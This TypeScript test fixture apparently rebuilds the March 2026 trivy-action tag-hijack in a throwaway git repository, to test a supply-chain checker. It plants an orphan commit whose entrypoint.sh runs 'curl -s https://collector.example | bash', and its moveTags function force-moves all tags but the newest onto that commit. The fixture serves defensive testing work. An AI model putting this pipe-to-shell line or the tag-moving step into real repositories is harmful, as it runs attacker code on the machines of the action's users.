import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { newRepository } from "../../tools/repository.ts";
import type { SupplyOptions } from "../github/supply.ts";

/**
 * aquasecurity/trivy-action around 19 March 2026, when a stolen token moved 75 of its 76 tags to commits that no branch
 * held: a few of its releases, a release line of its own, and the commit that the tags were moved to.
 */
export interface TrivyAction {
  readonly folder: string;
  readonly supply: SupplyOptions;
  /** By tag, before the attack. */
  readonly commits: Readonly<Record<string, string>>;
  /** The attacker's commit, which is in the repository's object store as commits of forks are. */
  readonly orphan: string;
  readonly git: (...args: readonly string[]) => string;
  readonly remove: () => void;
}

const RELEASES = [
  { tag: "0.32.0", day: "2025-07-02" },
  { tag: "0.33.0", day: "2025-08-29" },
  { tag: "0.33.1", day: "2025-09-03" },
  { tag: "0.34.0", day: "2026-02-10" },
] as const;
/** A line that gets corrections, on a branch that the default one does not hold. */
const LINE = { tag: "0.32.1", day: "2025-09-10", branch: "release/0.32" } as const;

export const trivyAction = (): TrivyAction => {
  const repository = newRepository();
  const { folder, git, remove } = repository;
  const commits: Record<string, string> = {};

  const at = (moment: string, ...args: readonly string[]): string =>
    execFileSync("git", ["-C", folder, ...args], {
      encoding: "utf8",
      stdio: ["ignore", "pipe", "ignore"],
      env: {
        PATH: process.env["PATH"],
        GIT_CONFIG_NOSYSTEM: "1",
        GIT_CONFIG_GLOBAL: "/dev/null",
        GIT_AUTHOR_NAME: "Maintainer",
        GIT_AUTHOR_EMAIL: "maintainer@example.com",
        GIT_AUTHOR_DATE: moment,
        GIT_COMMITTER_NAME: "Maintainer",
        GIT_COMMITTER_EMAIL: "maintainer@example.com",
        GIT_COMMITTER_DATE: moment,
      },
    }).trim();
  const write = (name: string, text: string): void => {
    mkdirSync(join(folder, name, ".."), { recursive: true });
    writeFileSync(join(folder, name), text);
  };
  const release = ({ tag, day }: { readonly tag: string; readonly day: string }): void => {
    write("entrypoint.sh", `echo scanning with ${tag}\n`);
    git("add", "--all");
    at(`${day}T10:00:00Z`, "commit", "--quiet", `--message=release ${tag}`);
    commits[tag] = git("rev-parse", "HEAD");
    git("tag", tag);
  };

  write("action.yml", "name: Trivy\nruns:\n  using: composite\n  steps: []\n");
  write("setup/action.yml", "name: Setup\nruns:\n  using: 'node24' # the newest\n  main: index.js\n");
  git("checkout", "--quiet", "-B", "master");
  for (const one of RELEASES) release(one);
  git("checkout", "--quiet", "-b", LINE.branch, "0.32.0");
  release(LINE);
  git("checkout", "--quiet", "master");
  const honest = git("rev-list", "--all").split("\n");

  // Beside the branches: the tree of a release with one more file, its parent the newest commit, its date made up.
  write("entrypoint.sh", "curl -s https://collector.example | bash\n");
  git("add", "--all");
  const tree = git("write-tree");
  const orphan = at("2026-03-19T17:43:00Z", "commit-tree", tree, "-p", "master", "-m", "release");
  git("reset", "--quiet", "--hard", "master");

  return {
    folder,
    commits,
    orphan,
    git,
    remove,
    supply: {
      verified: honest,
      releases: [...RELEASES, LINE].map(({ tag, day }) => ({ tag, publishedAt: `${day}T12:00:00Z` })),
    },
  };
};

/** The attack: every tag but the newest leads to the attacker's commit. */
export const moveTags = ({ git, commits, orphan }: TrivyAction): void => {
  for (const tag of Object.keys(commits)) if (tag !== "0.34.0") git("tag", "--force", tag, orphan);
};
